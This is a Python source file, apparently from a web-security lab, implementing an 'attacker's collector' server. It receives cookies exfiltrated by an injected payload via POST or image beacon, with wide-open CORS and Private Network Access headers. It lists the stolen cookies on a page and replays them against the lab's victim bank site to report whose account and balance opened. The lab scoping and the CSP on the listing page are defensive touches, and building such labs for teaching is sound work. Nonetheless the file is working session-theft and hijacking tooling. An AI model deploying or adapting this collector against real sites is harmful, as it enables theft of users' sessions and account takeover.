"""The attacker's collector: records what the payload sends, lists it, replays a stolen cookie.

It serves https with a lab certificate for its names, since the payload runs on an https
page and a browser blocks an http request from one (mixed content) off loopback. The
replay does what the attacker would do next: present the stolen cookie to the real
victim, through the edge's listener the world's DNS sends the victim's name to, and
report whose account opened.
"""
from __future__ import annotations

import asyncio
import html
import ipaddress
import itertools
import json
import re
import ssl
import time
from collections import deque
from dataclasses import dataclass
from typing import Any

from aiohttp import web

from lab.client import Outcome, probe
from lab.origins.bank import read_account
from lab.origins.common import WORLD_KEY, html_response
from lab.pki import LabCA, PKIError
from lab.topology import Origin, World

COLLECT_MAX_ENTRIES = 1000
COLLECT_MAX_BYTES = 16 * 1024
REPLAYS_AT_ONCE = 4  # a flood of replay clicks makes at most this many connections to the edge
COLLECTED_KEY = web.AppKey("collected", deque)

CORS = {"Access-Control-Allow-Origin": "*",
        "Access-Control-Allow-Methods": "GET, POST, OPTIONS",
        # Chrome's Private Network Access preflight asks for this one too.
        "Access-Control-Allow-Private-Network": "true",
        "Access-Control-Max-Age": "600"}
# The listing shows what strangers sent: nothing in it may run, load or submit elsewhere.
_PAGE_CSP = ("default-src 'none'; style-src 'unsafe-inline'; img-src data:; form-action 'self'; "
             "base-uri 'none'; frame-ancestors 'none'")
# A Cookie header as a browser sends it: printable ASCII, so nothing can smuggle a header line.
_COOKIE = re.compile(r"[\x21-\x7e][\x20-\x7e]{0,4095}")


# --- its certificate --------------------------------------------------------------------

def collector_names(origin: Origin, world: World) -> list[str]:
    """The names the collector is reached by: its lab DNS names, then its address when the
    lab CA may vouch for it (the CA's name constraints allow loopback addresses only)."""
    names = [r.name for r in world.records
             if r.type in ("A", "AAAA") and r.value in (f"origin:{origin.name}", origin.host)]
    if ipaddress.ip_address(origin.host).is_loopback:
        names.append(str(ipaddress.ip_address(origin.host)))
    return list(dict.fromkeys(names))


def tls_context(ca: LabCA, origin: Origin, world: World) -> ssl.SSLContext:
    names = collector_names(origin, world)
    if not names:
        raise PKIError(f"origin {origin.name}: serves https, but no DNS record names it and its address "
                         f"{origin.host} is not loopback: add an A record pointing to origin:{origin.name}")
    leaf = ca.leaf(names)  # issued into the lab's certs dir, key 0600, reused while valid
    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    ctx.minimum_version = ssl.TLSVersion.TLSv1_2
    ctx.set_alpn_protocols(["http/1.1"])  # aiohttp speaks HTTP/1.1 only
    ctx.load_cert_chain(str(leaf.cert_path), str(leaf.key_path))
    return ctx


# --- the replay (deciding parts pure) ---------------------------------------------------

@dataclass(frozen=True)
class Target:
    """Where the real victim is: the edge listener the world's DNS sends its name to."""
    name: str
    listener: str
    host: str
    port: int
    origin: str


def victim_target(world: World) -> Target | None:
    for zone in world.zones:
        origin = world.origin_by_name.get(zone.origin)
        if origin is None or origin.kind != "victim":
            continue
        for name in zone.hosts:
            for r in world.records:
                kind, _, listener = r.value.partition(":")
                if r.name == name and r.type in ("A", "AAAA") and kind == "listener" and listener in world.listener_by_name:
                    l = world.listener_by_name[listener]
                    return Target(name, l.name, l.host, l.port, origin.name)
    return None


def stolen_cookie(entry: dict[str, Any]) -> str | None:
    data = entry.get("data")
    cookie = data.get("cookie") if isinstance(data, dict) else None
    return cookie if isinstance(cookie, str) and _COOKIE.fullmatch(cookie) else None


def replay_result(outcome: Outcome, target: Target) -> dict[str, Any]:
    """What the attacker saw when presenting the cookie, as the collector page says it."""
    via = f"{target.listener} {target.host}:{target.port}"
    if outcome.tls_error or outcome.error:
        return {"opened": False, "via": via, "status": None, "detail": f"no answer: {outcome.tls_error or outcome.error}"}
    if not outcome.cert_valid_for(target.name):
        return {"opened": False, "via": via, "status": None,
                "detail": f"the certificate is not valid for {target.name}: a browser would stop here"}
    resp = outcome.response
    shown = read_account(resp.body.decode("utf-8", "replace")) if resp.status == 200 and resp.origin == target.origin else {}
    if shown.get("holder"):
        return {"opened": True, "via": via, "status": resp.status, "holder": shown["holder"],
                "balance": shown.get("balance"), "number": shown.get("number"),
                "detail": f"Opened {shown['holder']}'s account: balance {shown.get('balance', '?')}"}
    return {"opened": False, "via": via, "status": resp.status,
            "detail": f"{resp.origin or 'the edge'} answered {resp.status}: no account opened"}


# --- the listing ------------------------------------------------------------------------

_CSS = """
*{box-sizing:border-box}
html{font-size:22px}
body{margin:0;background:#14161a;color:#f2f2f2;line-height:1.35;
 font-family:system-ui,-apple-system,"Segoe UI",Roboto,"Noto Sans","DejaVu Sans",Arial,sans-serif}
header{background:#000;border-bottom:6px solid #e53935;padding:.6rem 1.2rem}
header h1{margin:0;font-size:1.7rem}
header p{margin:.15rem 0 0;color:#d6d6d6}
a{color:#ffb4a9}
main{padding:1rem 1.2rem;max-width:1240px}
.loot{background:#23262c;border:2px solid #3d424b;border-radius:12px;padding:.7rem 1rem;margin-bottom:.9rem}
.meta{color:#d6d6d6}
.meta b{color:#fff}
.cookie{font-family:ui-monospace,"DejaVu Sans Mono",monospace;color:#ffd54f;word-break:break-all;font-size:1.15rem;
 margin:.35rem 0 .6rem}
.actions{display:flex;gap:1rem;align-items:center;flex-wrap:wrap}
.muted{color:#d6d6d6}
button{font:inherit;font-weight:700;background:#e53935;color:#fff;border:0;border-radius:8px;padding:.4rem 1.1rem;cursor:pointer}
button:hover{background:#ff5a52}
.result{padding:.4rem .8rem;border-radius:8px;font-weight:700}
.result small{display:block;font-weight:400;font-size:.8rem}
.opened{background:#1b5e20;color:#fff}
.closed{background:#4a4a4a;color:#fff}
.empty{font-size:1.2rem;color:#d6d6d6}
.notice{background:#5d1f1c;border:2px solid #e53935;border-radius:8px;padding:.5rem .8rem}
"""


def _clock(t: float) -> str:
    return time.strftime("%H:%M:%S", time.localtime(t))


def _entry(entry: dict[str, Any]) -> str:
    e = html.escape
    data = entry.get("data") if isinstance(entry.get("data"), dict) else {}
    page_origin = data.get("origin") if isinstance(data.get("origin"), str) else entry.get("origin") or "?"
    raw = data.get("cookie") if isinstance(data.get("cookie"), str) else entry.get("body", "")
    if stolen_cookie(entry):
        action = (f'<form method="post" action="/replay/{entry["id"]}">'
                  '<button type="submit">Replay against the real victim</button></form>')
    else:
        action = '<span class="muted">no cookie to replay</span>'
    result = entry.get("replay")
    if result:
        action += (f'<div class="result {"opened" if result["opened"] else "closed"}">{e(result["detail"])}'
                   f'<small>via {e(result["via"])} at {e(_clock(result["time"]))}</small></div>')
    return (f'<article class="loot" id="loot-{entry["id"]}"><div class="meta">#{entry["id"]} · '
            f'{e(_clock(entry["time"]))} · from {e(str(entry.get("source") or "?"))} · page '
            f'<b>{e(str(page_origin))}</b></div>'
            f'<div class="cookie">{e(raw) if raw else "(empty cookie)"}</div><div class="actions">{action}</div></article>')


def listing_page(entries: list[dict[str, Any]], names: list[str], notice: str = "") -> str:
    """Newest first: the one just stolen is at the top."""
    body = "".join(_entry(entry) for entry in reversed(entries)) or \
        '<p class="empty">Nothing yet. When the payload runs on a page, what it sends appears here.</p>'
    notice = f'<p class="notice">{html.escape(notice)}</p>' if notice else ""
    return (f'<!doctype html><html lang="en"><head><meta charset="utf-8"><link rel="icon" href="data:,">'
            f'<title>Collector · {html.escape(names[0] if names else "attacker")}</title><style>{_CSS}</style></head>'
            f'<body><header><h1>Attacker’s collector</h1><p>{html.escape(", ".join(names))} · what the payload sent · '
            f'<a href="/">refresh</a> · <a href="/collected">JSON</a></p></header><main>{notice}{body}</main></body></html>')


# --- the routes -------------------------------------------------------------------------

def routes(app: web.Application, origin: Origin, world: World, ca: LabCA) -> None:
    collected: deque[dict[str, Any]] = deque(maxlen=COLLECT_MAX_ENTRIES)  # the last 1000
    app[COLLECTED_KEY] = collected
    ids = itertools.count(1)
    replays = asyncio.Semaphore(REPLAYS_AT_ONCE)
    names = collector_names(origin, world)

    def record(request: web.Request, method: str, body: str) -> None:
        try:
            data = json.loads(body)
        except ValueError:
            data = None
        collected.append({"id": next(ids), "time": time.time(), "source": request.remote, "method": method,
                          "origin": request.headers.get("Origin"), "referer": request.headers.get("Referer"),
                          "body": body, "data": data, "replay": None})

    async def collect_post(request: web.Request) -> web.Response:
        # app client_max_size makes read() answer 413 past COLLECT_MAX_BYTES.
        body = await request.read()
        record(request, "POST", body.decode("utf-8", "replace"))
        return web.json_response({"ok": True})

    async def collect_get(request: web.Request) -> web.Response:  # image beacon
        d = request.query.get("d", "")
        if len(d.encode()) > COLLECT_MAX_BYTES:
            raise web.HTTPRequestEntityTooLarge(COLLECT_MAX_BYTES, len(d.encode()))
        record(request, "GET", d)
        return web.Response(status=204)

    async def preflight(request: web.Request) -> web.Response:
        asked = request.headers.get("Access-Control-Request-Headers")
        return web.Response(status=204, headers={"Access-Control-Allow-Headers": asked} if asked else None)

    async def listing(request: web.Request) -> web.Response:
        return web.json_response(list(collected))

    async def page(request: web.Request) -> web.Response:
        return html_response(listing_page(list(collected), names), headers={"Content-Security-Policy": _PAGE_CSP})

    def refuse(status: int, why: str) -> web.Response:
        return html_response(listing_page(list(collected), names, why), status,
                             headers={"Content-Security-Policy": _PAGE_CSP})

    async def replay(request: web.Request) -> web.Response:
        # Only the collector's own page may start one: a form elsewhere would make the
        # collector knock on the victim's door for whoever asks.
        sent_from = request.headers.get("Origin")
        if sent_from is not None and sent_from != f"https://{request.headers.get('Host', '')}":
            return refuse(403, f"A replay is started from this page only, not from {sent_from}.")
        entry = next((x for x in collected if str(x["id"]) == request.match_info["id"]), None)
        if entry is None:
            return refuse(404, f"No entry #{request.match_info['id']} (only the last {COLLECT_MAX_ENTRIES} are kept).")
        cookie = stolen_cookie(entry)
        if cookie is None:
            return refuse(400, f"Entry #{entry['id']} holds no cookie to replay.")
        now = request.app[WORLD_KEY].world  # with the edge's bound ports
        target = victim_target(now)
        if target is None:
            return refuse(409, "The world has no victim site behind an edge listener to replay against.")
        if replays.locked():
            return refuse(503, "Replays are already running; try again in a moment.")
        # From the collector's own address: the edge, and the live page, see the attacker knock.
        own = origin.host if ipaddress.ip_address(origin.host).is_loopback else None
        async with replays:
            outcome = await probe(target.host, target.port, target.name,
                                  [{"host": target.name, "path": "/account", "headers": [("Cookie", cookie)]}],
                                  str(ca.cert_path), timeout=now.limits.origin_timeout, local_addr=own)
        entry["replay"] = {**replay_result(outcome, target), "time": time.time()}
        return web.Response(status=303, headers={"Location": f"/#loot-{entry['id']}"})

    app.router.add_get("/", page)
    app.router.add_post("/collect", collect_post)
    app.router.add_get("/collect", collect_get)
    app.router.add_route("OPTIONS", "/collect", preflight)
    app.router.add_get("/collected", listing)
    app.router.add_post("/replay/{id}", replay)
